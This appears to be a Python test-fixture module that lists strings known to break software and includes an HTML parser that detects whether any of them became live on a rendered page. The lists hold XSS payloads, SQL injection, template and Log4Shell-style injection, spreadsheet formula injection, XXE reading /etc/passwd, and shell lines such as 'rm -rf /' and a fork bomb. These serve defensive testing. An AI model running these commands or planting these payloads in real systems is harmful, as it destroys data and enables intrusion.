"""Strings that break software, written for our tests; and a reader of pages that tells whether one came alive.

FIT are stored as typed (line breaks as \\n, NFC, no blanks at the ends); UNFIT are refused beside their field.
"""

import re
import unicodedata
from html.parser import HTMLParser
from urllib.parse import unquote

# Every string that could act holds this number: nothing on a page may act with it.
MARK = "389389"

MARKUP = [
    f"<script>alert({MARK})</script>",
    f"</textarea><script>alert({MARK})</script>",
    f"</title><script>alert({MARK})</script>",
    f'"><img src=x onerror=alert({MARK})>',
    f"'><svg/onload=alert({MARK})>",
    f'" onfocus=alert({MARK}) autofocus x="',
    f"' onmouseover='alert({MARK})' x='",
    f"<ScRiPt sRc=//example.com/{MARK}.js></sCrIpT>",
    f"<img src=x:{MARK} onerror\n=alert({MARK})>".replace("\n", " "),
    f"<iframe srcdoc='<script>alert({MARK})</script>'></iframe>",
    f"<a href='javascript:alert({MARK})'>here</a>",
    f"javascript:alert({MARK})",
    f"JaVaScRiPt:alert({MARK})",
    f"data:text/html,<script>alert({MARK})</script>",
    f"vbscript:msgbox({MARK})",
    f"<!-- {MARK} --><!--[if IE]><script>alert({MARK})</script><![endif]-->",
    f"<![CDATA[<script>alert({MARK})</script>]]>",
    f"<style>@import'//example.com/{MARK}.css'</style>",
    f"<div hx-get='/account/logout/?{MARK}' hx-trigger='load'></div>",
    f"<form action='//example.com/{MARK}'><button>Go</button></form>",
    f"<base href='//example.com/{MARK}/'>",
    f"<meta http-equiv=refresh content='0;url=//example.com/{MARK}'>",
    f"&lt;script&gt;alert({MARK})&lt;/script&gt;",
    f"&#x3C;script&#x3E;alert({MARK})&#60;/script&#62;",
    f"\\u003cscript\\u003ealert({MARK})\\u003c/script\\u003e",
    f"%3Cscript%3Ealert({MARK})%3C/script%3E",
    "＜script＞alert(389389)＜/script＞",  # noqa: RUF001 - signs that only look like angle brackets
    f"<math><mtext></p><style><img src=x onerror=alert({MARK})>",
    "AT&T &amp; AT&amp;amp;T &copy &notanentity; & < > \" '",
]
CODE = [
    "'; DROP TABLE posts_post; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM trail_auditevent WHERE ('1'='1",
    "$$; SELECT pg_sleep(10); --",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% include 'base.html' %}{% endblock %}",
    "{# never said #} {{ 7|add:'7' }} {{ }} {% %}",
    "{0.__class__.__mro__} {} {{0}} {request}",
    "%s %d %n %x %(name)s %% %99999999d",
    "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://example.com/a}",
    "`rm -rf /` $(rm -rf /) | cat /etc/passwd ; :(){ :|:& };:",
    "../../../etc/passwd ..\\..\\windows\\system32",
    "file:///etc/passwd %00 %0a%0d",
    "=cmd|'/C calc'!A0",
    '+1+1;=HYPERLINK("http://example.com")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "CON PRN AUX NUL COM1 LPT1 .. ~ nul.txt",
    "null NULL None undefined nan NaN Infinity true false [] {} 0",
    "__proto__ constructor.prototype __class__",
    "1e309 -0 0x1F 1,000.00 ١٢٣ ４５６ ½ ²",  # noqa: RUF001 - digits of other scripts
    "\\ \\\\ \\n \\x41 \\' \\\" \\0",
    "Location: http://example.com Set-Cookie: egpd=1",
    "<<<<<<< HEAD ======= >>>>>>> main",
    "((((((((((((((((((((((((((((((a+)+)+)+)+$",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
]
WRITING = [
    "田中さんにあげて下さい 部落格 사회과학원",
    "Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ œ∑´®†¥¨ˆøπ",  # noqa: RUF001 - signs that look like others
    "Příliš žluťoučký kůň úpěl ďábelské ódy",
    "مرحبا بالعالم, שלום עולם, hello",
    "﷽ ﷺ ﷻ",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎",
    "e\u0301 o\u0308 n\u0303 \u1100\u1161\u11a8",  # composed by NFC
    "👩‍👩‍👧‍👦 🏳️‍🌈 👮🏽‍♀️ 🇺🇸 1️⃣ 🧑‍🚒",
    "👾 🙇 💁🏿 🙅🏻 ✋🏿 🫠",
    "zero\u200bwidth \u200cnon\u200djoiner \u2060word\u2060joiner",
    "soft\u00adhyphen no\u00a0break nar\u202frow",
    "left \u200e right \u200f marks \u061c",
    "\ufeffa byte order mark, and\ufeff another",
    "ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop ʇǝ ǝɹoqɐl",  # noqa: RUF001 - signs that look like others
    "𝐓𝐡𝐞 𝒒𝒖𝒊𝒄𝒌 𝔟𝔯𝔬𝔴𝔫 𝖋𝖔𝖝 🄹🅄🄼🄿🅂",  # noqa: RUF001 - mathematical letters
    "Ｔｈｅ　ｑｕｉｃｋ　ｂｒｏｗｎ　ｆｏｘ",  # noqa: RUF001 - full width letters
    "раураl раssword ехаmple",  # noqa: RUF001 - Cyrillic letters
    "İstanbul ıI ſ ẞß ﬁ ﬂ Ǆ",  # noqa: RUF001 - letters whose case is not one letter
    "\U000e0041\U000e0042 tags and \ue000 private use",
    "a" + "\u0301" * 60,
    "‘single’ “double” „low“ «guillemets» – — …",  # noqa: RUF001 - typographic quotes
    "ᚠᛇᚻ 𓀀𓂀 𐤀𐤁 ꧁꧂ ⠃⠗⠁⠊⠇⠇⠑",
    "http://例え.jp/ http://a/%%30%30 https://user:pass@example.com:99999/",
    "The quick brown fox’s 100% “okay”",  # noqa: RUF001 - a typographic apostrophe
]
# What a single line refuses and a text keeps.
LINES = ["one\ntwo\n\n\nthree", "a\tb\tc", "dos\r\nmac\rend", "page\u2028break\u2029and\u0085more"]
FIT = [*MARKUP, *CODE, *WRITING]
UNFIT = [
    "a\x00b",
    "bell \x07 and \x1b[31mred\x1b[0m",
    "back\x08space delete\x7f",
    "\u202egnp.exe turned round",
    "\u2066isolated\u2069",
    "not a character \ufffe \uffff \ufdd0",
    "lost \ufffd already",
]
# Bytes of a form that are no text at all, as they arrive on the wire.
BAD_BYTES = [b"%ED%A0%80", b"%FF%FE", b"%C0%AF", b"%F4%90%80%80", b"%E2%82", b"%00", b"%", b"%zz", b"\xed\xb0\x80"]


def as_stored(typed: str) -> str:
    """What a text is after it was typed: by the words of `core.text`, written down a second time."""
    for line_break in ("\r\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"):
        typed = typed.replace(line_break, "\n")
    return unicodedata.normalize("NFC", typed).strip()


def squeezed(text: str) -> str:
    """Blanks as a browser shows them."""
    return re.sub(r"[ \t\n\r\f]+", " ", text).strip()


class Page(HTMLParser):
    """What a reader sees of a page, and what in it would act."""

    ACTING = frozenset(("iframe", "object", "embed", "base", "math", "style"))

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[str] = []
        self.alive: list[str] = []
        self._in = ""
        self.feed(html)
        self.close()
        self.text = squeezed("".join(self.seen))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in = tag if tag in ("script", "style") else ""
        if tag in self.ACTING:
            self.alive.append(f"<{tag} {attrs}>")
        for name, value in attrs:
            value = value or ""
            if name in ("value", "alt", "title", "aria-label", "placeholder"):
                self.seen.append(f"\n{value}\n")
            elif name.startswith("on") or self._acts(tag, name, value):
                self.alive.append(f"<{tag} {name}={value}>")

    @staticmethod
    def _acts(tag: str, name: str, value: str) -> bool:
        """Addresses of our own may carry the number as data, such as ?q=, and a typed address may be a link."""
        if MARK not in value or (tag == "a" and name == "href" and value.startswith(("http://", "https://"))):
            return False
        leads_in = re.match(r"(/(?!/)|[?#])", value) and not name.startswith("hx-")
        return not leads_in or bool(re.match(r"\s*(javascript|data|vbscript):", unquote(value), re.IGNORECASE))

    def handle_data(self, data: str) -> None:
        if self._in and MARK in data:
            self.alive.append(f"<{self._in}>{data}")
        self.seen.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in = ""
        self.seen.append("" if tag in ("b", "i", "a", "mark", "q", "ins", "del", "span") else "\n")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.alive.append(f"<!--{data}-->")

    def unknown_decl(self, data: str) -> None:
        self.alive.append(f"<![{data}]>")

    def shows(self, stored: str) -> bool:
        return squeezed(stored) in self.text
